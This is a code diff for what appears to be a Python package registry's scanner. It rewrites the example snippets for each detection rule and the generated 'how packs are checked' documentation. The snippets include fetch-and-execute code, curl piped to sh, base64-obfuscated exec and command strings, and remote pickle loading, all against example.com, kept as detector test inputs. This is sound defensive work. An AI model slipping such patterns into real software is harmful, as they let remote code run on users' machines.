@@ -1,73 +1,28 @@
 import { RULES, type RuleName } from '../src/python/scan/finding.js';
 
-/** Code that a rule finds, and what to do about it. */
-interface RuleExample {
-  readonly code: string;
-  readonly fix: string;
-}
-
-/** An example for each rule. The tests run the checks on it. */
-export const RULE_EXAMPLES: Readonly<Record<RuleName, RuleExample>> = {
-  'remote-code': {
-    code: 'import requests\n\ndef update():\n    exec(requests.get("https://example.com/update.py").text)',
-    fix: 'Ship the code with the pack, and publish a new version when it changes.',
-  },
-  'obfuscated-code': {
-    code: 'import base64\n\nexec(base64.b64decode("cHJpbnQoMSk="))',
-    fix: 'Publish the source as it is. Packed or encrypted code cannot be checked by anybody.',
-  },
-  'remote-pickle': {
-    code: 'import pickle\nimport requests\n\ndef load():\n    return pickle.loads(requests.get("https://example.com/weights.pkl").content)',
-    fix: 'Download safetensors or JSON instead: they hold data and no code.',
-  },
-  'downloaded-program': {
-    code: 'import subprocess\nimport urllib.request\n\ndef run(path):\n    urllib.request.urlretrieve("https://example.com/tool", path)\n    subprocess.run([path])',
-    fix: 'Name a package in `dependencies` that brings the program, or ask users to install it.',
-  },
-  'download-command': {
-    code: 'import os\n\nos.system("curl https://example.com/install.sh | sh")',
-    fix: 'Name what it installs in `dependencies`, or describe the step in the README.',
-  },
-  'hidden-command': {
-    code: 'import base64\nimport os\n\nos.system(base64.b64decode("bHM=").decode())',
-    fix: 'Write the command in plain text.',
-  },
-  'unread-code': {
-    code: '',
-    fix: 'Split files of more than a few megabytes of code, move generated data out of Python, and save the files as UTF-8.',
-  },
-  secret: {
-    code: '',
-    fix: 'Revoke the key, remove it from the file, and read it from a variable or a file of the user instead.',
-  },
-  'dynamic-code': {
-    code: 'def evaluate(expression):\n    return eval(expression)',
-    fix: 'Parse the text instead, for example with `ast.literal_eval`. An honest use is only noted.',
-  },
-  'compiled-code': {
-    code: '',
-    fix: 'Publish the source beside it, so that people can see what it was built from.',
-  },
-  pickle: {
-    code: 'import pickle\n\ndef load(path):\n    with open(path, "rb") as file:\n        return pickle.load(file)',
-    fix: 'Use safetensors for weights and JSON for settings.',
-  },
-  'runtime-install': {
-    code: 'import subprocess\nimport sys\n\ndef install():\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
-    fix: 'List the package in `dependencies`; installers read it from there.',
-  },
-  subprocess: {
-    code: 'import subprocess\n\ndef convert(path):\n    subprocess.run(["ffmpeg", "-i", path, "out.mp4"])',
-    fix: 'Nothing, if the program and its arguments are what users expect. Say in the README which program is needed.',
-  },
-  'network-at-import': {
-    code: 'import requests\n\nMODELS = requests.get("https://example.com/models.json").json()',
-    fix: 'Move the request into the function of the node, so that importing the pack works offline.',
-  },
-  'deletes-folders': {
-    code: 'import shutil\n\ndef clear(path):\n    shutil.rmtree(path)',
-    fix: 'Delete only files that the pack created.',
-  },
+/** Code that each rule finds. The tests run the checks on it. */
+export const RULE_EXAMPLES: Readonly<Record<RuleName, string>> = {
+  'remote-code':
+    'import requests\n\ndef update():\n    exec(requests.get("https://example.com/update.py").text)',
+  'obfuscated-code': 'import base64\n\nexec(base64.b64decode("cHJpbnQoMSk="))',
+  'remote-pickle':
+    'import pickle\nimport requests\n\ndef load():\n    return pickle.loads(requests.get("https://example.com/weights.pkl").content)',
+  'downloaded-program':
+    'import subprocess\nimport urllib.request\n\ndef run(path):\n    urllib.request.urlretrieve("https://example.com/tool", path)\n    subprocess.run([path])',
+  'download-command': 'import os\n\nos.system("curl https://example.com/install.sh | sh")',
+  'hidden-command': 'import base64\nimport os\n\nos.system(base64.b64decode("bHM=").decode())',
+  'unread-code': '',
+  secret: '',
+  'dynamic-code': 'def evaluate(expression):\n    return eval(expression)',
+  'compiled-code': '',
+  pickle:
+    'import pickle\n\ndef load(path):\n    with open(path, "rb") as file:\n        return pickle.load(file)',
+  'runtime-install':
+    'import subprocess\nimport sys\n\ndef install():\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
+  subprocess:
+    'import subprocess\n\ndef convert(path):\n    subprocess.run(["ffmpeg", "-i", path, "out.mp4"])',
+  'network-at-import': 'import requests\n\nMODELS = requests.get("https://example.com/models.json").json()',
+  'deletes-folders': 'import shutil\n\ndef clear(path):\n    shutil.rmtree(path)',
 };
 
 /** Formats docs/how-packs-are-checked.md. */
@@ -94,8 +49,9 @@ The checks read the Python of a pack. They never run it.
 | banned | an admin refused it |
 | deleted | the publisher deleted it; its number cannot be used again |
 
-\`regen version get my-nodes 1.0.0 --reasons\` lists each finding with its file and line. If a finding is wrong, publish with
-\`--allow-findings\` and ask an admin of the registry for a review; \`regen admin review\` shows them what waits.
+\`regen version get my-nodes 1.0.0 --reasons\` lists each finding with its file and line. If a finding is wrong, ask an admin of the registry for a review.
+\`--allow-findings\` uploads a version that would be flagged: it stays flagged and hidden until an admin approves it. \`regen admin review\`
+shows them what waits.
 
 ## Checked before the code
 
@@ -127,7 +83,8 @@ ${select('low').map(formatRule).join('\n')}`
 }
 
 function formatRule(name: RuleName): string {
-  const { code, fix } = RULE_EXAMPLES[name];
+  const { message, fix } = RULES[name];
+  const code = RULE_EXAMPLES[name];
   const example = code ? `\n\`\`\`python\n${code}\n\`\`\`\n` : '';
-  return `### ${name}\n\n${RULES[name].message}\n${example}\n**Fix:** ${fix}\n`;
+  return `### ${name}\n\n${message}\n${example}\n**Fix:** ${fix}\n`;
 }
